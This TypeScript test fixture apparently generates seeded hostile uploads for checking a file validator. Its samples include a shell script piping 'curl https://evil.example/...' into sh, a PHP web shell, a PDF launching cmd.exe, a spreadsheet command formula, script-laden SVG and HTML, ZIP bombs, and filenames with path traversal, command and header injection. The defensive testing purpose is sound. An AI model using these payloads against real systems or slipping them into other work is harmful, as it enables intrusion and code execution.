import { deflateRawSync } from "node:zlib";
import { seededRandom } from "@/testing/model/seeded-random";
import { pngChunk, sampleJpeg, samplePdf, samplePng, sampleZip } from "./sample-files";

/** A file as somebody sends it: `claimed` is the type that the sender says. `refused` where no check may let it pass. */
export type HostileFile = {
  readonly kind: string;
  readonly name: string;
  readonly claimed: string;
  readonly bytes: Buffer;
  readonly refused: boolean;
};

/** `count` hostile files, the same for the same seed, each of some kind, content, name and claimed type. */
export function hostileFiles(count: number, seed = 1): readonly HostileFile[] {
  const { next: random, of } = seededRandom(seed);
  const kinds = Object.entries(makers);
  return Array.from({ length: count }, () => {
    const [kind, { refused, make }] = of(kinds);
    const [name, claimed] = [of(names)(of(endings)), of(claims)];
    return { kind, name, claimed, bytes: Buffer.from(make(random)), refused };
  });
}

type Random = () => number;
type Maker = { readonly refused: boolean; readonly make: (random: Random) => Uint8Array };

const refuse = (make: Maker["make"]): Maker => ({ refused: true, make });
const harmless = (make: Maker["make"]): Maker => ({ refused: false, make });

const text = (content: string) => Buffer.from(content, "utf8");
const latin = (content: string) => Buffer.from(content, "latin1");
const after = (whole: Uint8Array, more: string | Uint8Array) =>
  Buffer.concat([whole, typeof more === "string" ? latin(more) : more]);
const noise = (random: Random, length: number) => Buffer.from(Array.from({ length }, () => Math.floor(random() * 256)));
const script = (random: Random) =>
  `<script>fetch("/steps",{method:"POST",body:"${Math.floor(random() * 1e9)}"})</script>`;
const svg = (random: Random) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(${random()})">${script(random)}</svg>`;
const chunkOf = (content: string | Uint8Array) => [pngChunk("tEXt", after(latin("Comment\0"), content))];
const bomb = (random: Random) =>
  sampleZip("bomb.txt", deflateRawSync(Buffer.alloc(1_000_000 + Math.floor(random() * 1_000_000))));
const flipped = (random: Random, whole: Buffer, from: number): Buffer => {
  const copy = Buffer.from(whole);
  const at = from + Math.floor(random() * (copy.length - from));
  copy[at] = (copy[at] ?? 0) ^ 0x55;
  return copy;
};

const makers: Readonly<Record<string, Maker>> = {
  "PNG with a script behind its end": refuse((random) => after(samplePng(), script(random))),
  "PNG with a ZIP behind its end": refuse((random) => after(samplePng(), bomb(random))),
  "PNG with a script in a chunk": refuse((random) => samplePng(8, 8, chunkOf(script(random)))),
  "PNG with a ZIP in its last chunk": refuse((random) => samplePng(8, 8, chunkOf(bomb(random)))),
  "PNG with a PDF in its first chunk": refuse(() => samplePng(1, 1, chunkOf(samplePdf()))),
  "PNG of too many pixels": refuse((random) => samplePng(30_000 + Math.floor(random() * 9999), 60_000)),
  "PNG cut short": refuse((random) => samplePng().subarray(0, 20 + Math.floor(random() * 30))),
  "PNG with a changed byte": refuse((random) => flipped(random, samplePng(), 8)),
  "PNG's mark before HTML": refuse((random) => after(latin("\x89PNG\r\n\x1a\n"), `<html>${script(random)}`)),
  "JPEG with a script behind its end": refuse((random) => after(sampleJpeg(), script(random))),
  "JPEG with a ZIP behind its end": refuse((random) => after(sampleJpeg(), bomb(random))),
  "JPEG with HTML in its comment": refuse((random) => sampleJpeg(`<html><body>${script(random)}`)),
  "JPEG cut short": refuse((random) => sampleJpeg().subarray(0, 4 + Math.floor(random() * 90))),
  "JPEG's mark before noise": refuse((random) => after(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), noise(random, 500))),
  "PDF with JavaScript": refuse((random) => samplePdf(`<< /S /JavaScript /JS (app.alert(${random()})) >>`)),
  "PDF with JavaScript in hexadecimal": refuse(() => samplePdf("<< /S /J#61vaScri#70t /JS (app.alert(1)) >>")),
  "PDF that launches a program": refuse(() => samplePdf("<< /S /Launch /F (cmd.exe) >>")),
  "PDF with an embedded file": refuse(() => samplePdf("<< /Type /EmbeddedFile /Length 0 >>")),
  "PDF that is HTML too": refuse((random) => samplePdf(`(<html><body>${script(random)})`)),
  "PDF with a ZIP behind its end": refuse((random) => after(samplePdf(), bomb(random))),
  "PDF behind HTML": refuse((random) => after(latin(`<!-- ${random()} -->`), samplePdf())),
  "PDF behind blanks": refuse(() => after(latin(" \n \n"), samplePdf())),
  "SVG with a script": refuse((random) => text(svg(random))),
  "SVG behind an XML declaration": refuse((random) => text(`<?xml version="1.0"?>\n<!DOCTYPE svg>\n${svg(random)}`)),
  "SVG in UTF-16": refuse((random) => after(Buffer.from([0xff, 0xfe]), Buffer.from(svg(random), "utf16le"))),
  "SVG, compressed": refuse((random) => after(Buffer.from([0x1f, 0x8b, 8, 0]), deflateRawSync(text(svg(random))))),
  HTML: refuse((random) => text(`<!DOCTYPE html><html><body onload=alert(${random()})>${script(random)}`)),
  "HTML far behind text": refuse((random) => text(`${"line of a log\n".repeat(20_000)}${script(random)}`)),
  "a link that runs script": refuse((random) => text(`See <a href="javascript:alert(${random()})">the log</a>`)),
  "HTML in UTF-7": harmless((random) => text(`+ADw-script+AD4-alert(${random()})+ADw-/script+AD4-`)),
  "JavaScript as text": harmless((random) => text(`fetch("/steps?x=${random()}").then(r => r.text()).then(eval)`)),
  "a formula for a spreadsheet": harmless((random) =>
    text(`=cmd|' /C calc'!A${Math.floor(random() * 9)}\n+1+1,@SUM(1)`),
  ),
  ZIP: refuse((random) => sampleZip(`${Math.floor(random() * 1e6)}.txt`)),
  "ZIP bomb": refuse(bomb),
  "ZIP of ZIP bombs": refuse((random) => sampleZip("inner.zip", bomb(random))),
  gzip: refuse((random) => after(Buffer.from([0x1f, 0x8b, 8, 0]), noise(random, 300))),
  "a Windows program": refuse((random) => after(latin("MZ\x90\0\x03\0\0\0"), noise(random, 400))),
  "a Linux program": refuse((random) => after(latin("\x7fELF\x02\x01\x01\0"), noise(random, 400))),
  "a shell script": refuse((random) => text(`#!/bin/sh\ncurl https://evil.example/${random()} | sh\n`)),
  PHP: refuse((random) => text(`<?php system($_GET["${random()}"]); ?>`)),
  GIF: refuse((random) => after(latin("GIF89a"), noise(random, 300))),
  "GIF that is JavaScript": refuse((random) => latin(`GIF89a\x01\0=\0;alert(${random()})//`)),
  WebP: refuse((random) => after(latin("RIFF\x24\0\0\0WEBPVP8 "), noise(random, 300))),
  "text with a null character": refuse((random) => text(`A log line ${random()}\0<script>`)),
  "text with terminal codes": refuse((random) => text(`\u001b]0;owned ${random()}\u0007\u001b[2J gone`)),
  "text that turns the writing": refuse((random) => text(`invoice\u202egnp.exe ${random()}`)),
  "text that is no UTF-8": refuse((random) => latin(`caf\xe9 na\xefve \xff\xfe ${random()}`)),
  "overlong UTF-8": refuse((random) => after(Buffer.from([0xc0, 0xbc, 0xc0, 0xae]), `script ${random()}`)),
  "half a surrogate pair in UTF-8": refuse(() => Buffer.from([0xed, 0xa0, 0x80, 0x41])),
  nothing: refuse(() => Buffer.alloc(0)),
  "nothing but blanks": refuse((random) => text(" \u00a0\u2800\u200b\n".repeat(1 + Math.floor(random() * 9)))),
  "megabytes of noise": refuse((random) => Buffer.alloc(2_000_000, noise(random, 997))),
  "megabytes of one mark": refuse((random) => Buffer.alloc(2_000_000, `<script x${Math.floor(random() * 10)}`)),
  "more than a file may have": refuse(() => Buffer.alloc(10 * 1024 * 1024 + 1, 0x41)),
  "a true PNG": harmless((random) => samplePng(1 + Math.floor(random() * 60), 8)),
  "a true JPEG": harmless((random) => sampleJpeg(`taken at ${random()}`)),
  "a true PDF": harmless((random) => samplePdf(`(page ${random()})`)),
  "a true text": harmless((random) => text(`12:00:01 probe ok ${random()}\n12:00:02 probe ok\n`)),
};

const endings = ["png", "jpg", "pdf", "txt", "svg", "html", "exe", "png.exe", "pdf.js", "htm", "lnk", "zip", "php", ""];
const claims = [
  "image/png",
  "image/jpeg",
  "application/pdf",
  "text/plain",
  "image/svg+xml",
  "text/html",
  "",
  "a/b\r\nX: y",
];
const names: readonly ((ending: string) => string)[] = [
  (ending) => `../../../../etc/passwd.${ending}`,
  (ending) => `..\\..\\windows\\system32\\drivers\\etc\\hosts.${ending}`,
  (ending) => `C:\\Users\\x\\${ending}`,
  (ending) => `a\0b.${ending}`,
  (ending) => `a\r\nSet-Cookie: x=y\r\n\r\n<script>.${ending}`,
  (ending) => `"; filename="other.${ending}`,
  (ending) => `in\u202egnp.voice.${ending}`,
  (ending) => `${"long ".repeat(400)}.${ending}`,
  (ending) => `CON.${ending}`,
  (ending) => `.htaccess${ending}`,
  (ending) => `....${ending}....`,
  (ending) => `<img src=x onerror=alert(1)>.${ending}`,
  (ending) => `$(reboot)\`reboot\`;reboot|&.${ending}`,
  (ending) => `%2e%2e%2fpasswd.${ending}`,
  (ending) => `\u200b\u00ad\u2800.${ending}`,
  (ending) => `😀ñ漢字.${ending}`,
  (ending) => `__proto__.${ending}`,
  () => "",
];
